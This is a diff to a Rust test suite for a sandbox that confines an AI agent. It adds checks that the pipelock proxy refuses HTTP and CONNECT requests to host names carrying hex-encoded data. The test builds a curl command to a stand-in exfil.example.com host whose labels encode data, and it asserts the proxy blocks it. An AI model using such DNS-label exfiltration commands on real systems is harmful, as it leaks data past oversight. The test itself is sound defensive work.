@@ -440,6 +440,25 @@ fn agent_dns_lookups_of_outside_names_fail_fast_and_never_leave_the_bottle() {
             &q.stdout,
         );
     }
+    // Through the proxy: pipelock resolves names itself, so a name whose labels carry data
+    // must be refused before any lookup (the capture below would see pipelock's query leave).
+    let carrying = format!("{label}{label}{label}.exfil.example.com");
+    let plain = s.agent(&format!(
+        "curl -sS --max-time 10 -x \"$HTTPS_PROXY\" -w ' %{{http_code}}' http://{carrying}/"
+    ));
+    a.blocked(
+        "a name carrying hex data, plain HTTP through pipelock",
+        plain.stdout.ends_with(" 403") && plain.stdout.contains("rule host-encoded-data"),
+        &plain.stdout,
+    );
+    let tunnel = s.agent(&format!(
+        "curl -sS --max-time 10 -x \"$HTTPS_PROXY\" -o /dev/null -w '%{{http_connect}}' https://{carrying}/"
+    ));
+    a.blocked(
+        "a name carrying hex data, CONNECT through pipelock",
+        tunnel.stdout.trim() == "403",
+        &tunnel.stdout,
+    );
     let own = s.agent("getent hosts sidecars");
     a.blocked(
         "the bottle's own names still resolve",
@@ -459,7 +478,7 @@ fn agent_dns_lookups_of_outside_names_fail_fast_and_never_leave_the_bottle() {
         let reply = line.contains(&format!("{sidecars_ip}.53 >"))
             && line.contains(&format!("> {agent_ip}."));
         a.blocked(
-            "a DNS packet for the name outside agent <-> bottle resolver",
+            "a DNS packet for the names outside agent <-> bottle resolver",
             between || reply,
             line,
         );
